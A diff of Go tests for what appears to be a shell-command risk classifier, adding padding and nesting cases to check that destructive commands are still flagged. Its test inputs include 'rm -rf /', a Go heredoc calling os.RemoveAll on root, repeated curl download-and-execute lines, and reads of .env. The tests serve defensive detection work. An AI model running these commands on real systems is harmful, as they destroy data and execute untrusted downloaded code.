@@ -152,7 +152,7 @@ func TestEverydayCommands(t *testing.T) {
 		"python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])' < a.json", "curl -s http://localhost:8080/health | jq .", "curl -fsSL https://example.com/data.json -o data.json",
 		"curl -s https://api.github.com/repos/a/b | python3 -m json.tool", "docker compose up -d && docker logs -f web", "kubectl get pods -n prod", "ssh build.example.com uptime", "chmod +x scripts/run.sh && ./scripts/run.sh",
 		"mkdir -p ~/.ssh && ls ~/.ssh", "sudo apt-get install -y jq", "tar czf out.tgz src", "for f in *.go; do gofmt -l $f; done", "cat > main.go <<'EOF'\npackage main\nfunc main() { os.RemoveAll(\"/\") }\nEOF",
-		"echo 'rm -rf /' >> notes.md", "git push origin main", "rg -n TODO --type go", "export PATH=$PATH:/usr/local/go/bin", "source .venv/bin/activate && pip install -r requirements.txt", "psql -c 'select count(*) from users'",
+		"echo 'rm -rf /' >> notes.md", "git push origin main", "rg -n FIXTHIS --type go", "export PATH=$PATH:/usr/local/go/bin", "source .venv/bin/activate && pip install -r requirements.txt", "psql -c 'select count(*) from users'",
 		"make -j4 && make test", "ps aux | grep node", "kill 1234", "lsof -i :3000", "cat /etc/os-release", "cargo build --release", "xargs -n1 basename < files.txt", "diff <(sort a) <(sort b)", "terraform plan", "gh pr create --fill",
 		"Get-ChildItem -Recurse -Filter *.cs | Select-String FIXTHIS", "Get-Content package.json | ConvertFrom-Json", "dotnet build; dotnet test", "Remove-Item -Recurse -Force .\\bin", "New-Item -ItemType Directory -Path src", "$env:PATH = \"$env:PATH;C:\\tools\"", "npm run build 2>&1 | Out-File build.log", "Test-Path .\\package.json", "cd C:\\src\\app && dir",
 	} {
@@ -255,7 +255,7 @@ func TestSpans(t *testing.T) {
 
 // Whatever comes, it ends soon and says what it did not read.
 func TestHostile(t *testing.T) {
-	big := 1 << 20
+	big := 1 << 16
 	for name, command := range map[string]string{
 		"brackets":      strings.Repeat("(", big),
 		"substitutions": strings.Repeat("$(", big/2),
@@ -272,6 +272,10 @@ func TestHostile(t *testing.T) {
 		"substitution":  strings.Repeat("echo $(", 300) + "x" + strings.Repeat(")", 300),
 		"words":         "rm " + strings.Repeat("/etc/x ", big/8),
 		"curls":         strings.Repeat("curl http://a.b/c -o x; ./x;", big/32),
+		"clouds":        strings.Repeat("aws iam x;", big/10),
+		"powershell":    strings.Repeat("powershell -c 'Get-Item "+strings.Repeat("x", 1000)+"';", big/1050),
+		"code":          strings.Repeat("python3 -c 'import os "+strings.Repeat("x", 1000)+"';", big/1050),
+		"commas":        strings.Repeat("a,", big/2),
 		"nots":          strings.Repeat("! ", 30000) + "a",
 		"ands":          strings.Repeat("a && ", 12000) + "b",
 		"zero":          strings.Repeat("\x00", 1000),
@@ -285,13 +289,34 @@ func TestHostile(t *testing.T) {
 			t.Errorf("%s: %d findings", name, len(found))
 		}
 	}
-	long := bash("echo " + strings.Repeat("x", big) + "; rm -rf /")
+	long := bash("echo " + strings.Repeat("x", 1<<20) + "; rm -rf /")
 	if w := worst(action.Classify("Bash", long), action.Unparsed); w.Rule == "" {
 		t.Error("nothing is said of what is too long")
 	}
 	deep := []byte(strings.Repeat(`{"a":`, 200000))
 	if w := worst(action.Classify("Bash", deep), action.Unparsed); w.Rule == "" {
 		t.Error("nothing is said of what nests too deep")
+	}
+}
+
+// What is said first, or often, doesn't hide what comes later.
+func TestNothingHidesBehindMuch(t *testing.T) {
+	for name, before := range map[string]string{
+		"findings": strings.Repeat("cat .env; crontab a; ", 200), "commands": strings.Repeat("true; ", 3000), "paths": "ls " + func() (b string) {
+			for i := range 1500 {
+				b += fmt.Sprintf("/etc/x%d ", i)
+			}
+			return b
+		}() + "; ",
+	} {
+		if w := worst(action.Classify("Bash", bash(before+"rm -rf /")), action.Destructive); w.Severity != flow.Critical {
+			t.Errorf("%s: hidden", name)
+		}
+	}
+	for name, before := range map[string]string{"commands": strings.Repeat("true; ", 9000), "nested": strings.Repeat("eval ", 9)} {
+		if found := action.Classify("Bash", bash(before+"rm -rf /")); len(found) == 0 {
+			t.Errorf("%s: nothing is said", name)
+		}
 	}
 }
 
